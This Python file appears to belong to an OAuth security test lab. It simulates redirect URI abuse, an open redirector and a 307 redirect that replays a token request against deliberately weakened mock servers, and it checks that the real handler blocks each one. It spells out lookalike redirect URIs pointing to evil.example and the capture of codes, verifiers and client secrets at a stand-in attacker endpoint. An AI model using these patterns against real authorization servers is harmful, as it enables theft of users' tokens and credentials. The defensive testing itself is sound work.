"""Attacks on where answers and credentials are sent: rows 1, 8 and 9."""

from __future__ import annotations

from functools import partial

import httpx

from ...client.handler import OAuthHandler
from ...oauth.errors import McpOAuthError
from ...trace.messages import CLIENT, GITHUB
from ..http_lab import HttpLab
from ..lab import Lab
from .cast import ATTACKER, EVIL, Browser, ByHand, Site, code_of, open_site, randomness, refused, whose_data
from .outcome import Plot, attack
from .weakened import ErrorsFirst, FollowsRedirects, LooseRedirects

_SHOP = "https://shop.example/callback"
_LOOKALIKES = (
    f"{_SHOP}/comments",
    "https://guest.shop.example/callback",
    "https://shop.example@evil.example/callback",
    "https://shop.example%2f@evil.example/callback",
)


@attack(
    1,
    "Redirect URI abuse",
    needs=HttpLab,
    check="redirect URIs are compared character by character, but for the port of a loopback address",
    reference="RFC 9700 section 4.1.3",
)
async def redirect_uri_abuse(lab: HttpLab, plot: Plot) -> None:
    """An honest client's id, with redirect URIs that only look like its own."""
    sink = open_site(lab, Site(), EVIL, "https://guest.shop.example", "https://shop.example")
    client = await ByHand(lab).register(_SHOP, client_name="Shop", application_type="web")
    plot.step(f"A shop's client is registered with {_SHOP}. The attacker, who may write comments there, knows its id.")
    with lab.network.instead(lambda app: app if plot.defence else LooseRedirects(app, _SHOP)):
        stopped = {uri: await _lure(lab, plot, client, uri) for uri in _LOOKALIKES}
        passed = [uri for uri, error in stopped.items() if error is None]
        if not passed:
            raise next(error for error in stopped.values() if error is not None)
        tokens = await client.exchange(sink.told["code"], redirect_uri=passed[-1])
        plot.step("The attacker made the request, so the code verifier is theirs too: they exchange a code.")
        plot.learned("codes", len([request for request in sink.seen if "code" in request.url.params]))
        plot.got("access token", tokens["access_token"])
        plot.learned("data of", await whose_data(lab, tokens["access_token"]))


async def _lure(lab: HttpLab, plot: Plot, client: ByHand, uri: str) -> McpOAuthError | None:
    victim = await Browser(lab).sign_in()
    try:
        end = await victim.person.authorize(client.url(redirect_uri=uri))
    except McpOAuthError as error:
        plot.step(f"redirect_uri={uri} gets an error page.")
        return error
    await victim.get(end)
    plot.step(f"redirect_uri={uri} gets the victim's code.")
    return None


@attack(
    8,
    "Open redirector",
    needs=HttpLab,
    check="nothing is redirected before the client and its redirect URI are known to be good",
    reference="RFC 9700 section 4.11.2",
)
async def open_redirector(lab: HttpLab, plot: Plot) -> None:
    """A link to a server that people trust, which sends them to one that they should not."""
    phish = open_site(lab, Site())
    link = ByHand(lab).url(response_type="nonsense", redirect_uri=f"{EVIL}/sign-in")
    plot.step(
        "The attacker mails a link to the authorization server, with a mistake in it and a redirect_uri of theirs."
    )
    victim = await Browser(lab).sign_in()
    with lab.network.instead(lambda app: app if plot.defence else ErrorsFirst(app)):
        answer = await victim.get(link)
    plot.step("The victim looks at the host in the link, which is the right one, and clicks.")
    await victim.get(refused(answer).headers["location"])
    plot.learned("a visitor at", phish.seen[-1].url.copy_with(query=None))
    plot.learned("who trusts", lab.authorization_server.public_url)


@attack(
    9,
    "Redirect that replays the body",
    needs=Lab,
    check="a request that carries credentials follows no redirect",
    reference="RFC 9700 section 4.12",
)
async def redirect_replay(lab: Lab, plot: Plot) -> None:
    """A token endpoint that answers 307: the browser's rules say to send the same form again, elsewhere."""
    sink = Site({"/collect": {"access_token": "none", "token_type": "bearer"}})
    network = _Hosts(lab.github.transport(), sink)
    transport = lab.trace.http(network, sender=CLIENT, receiver=lambda url: ATTACKER if EVIL in url else GITHUB)
    kind = OAuthHandler if plot.defence else FollowsRedirects
    handler = kind(
        settings=lab.settings,
        client=partial(httpx.AsyncClient, transport=transport),
        clock=lab.clock,
        token_bytes=randomness("redirect replay"),
    )
    request = handler.get_authorization_url()
    callback = await lab.browser.authorize(request.url)
    plot.step("The victim authorizes, and their client has a code.")
    lab.github.faults.next_token(status=307, headers={"Location": f"{EVIL}/collect"})
    plot.step(f"The token endpoint has an open redirect: it answers 307, Location: {EVIL}/collect.")
    code_of(callback)
    await handler.complete_authorization(callback)
    plot.step("The client follows. 307 keeps method and body.")
    for name in ("code", "code_verifier", "client_secret"):
        plot.got(name.replace("_", " "), sink.told[name])


class _Hosts(httpx.AsyncBaseTransport):
    """The mocked GitHub, and the attacker's site."""

    def __init__(self, github: httpx.AsyncBaseTransport, sink: Site):
        self._github = github
        self._sink = sink

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        evil = str(request.url).startswith(EVIL)
        return await (self._sink if evil else self._github).handle_async_request(request)
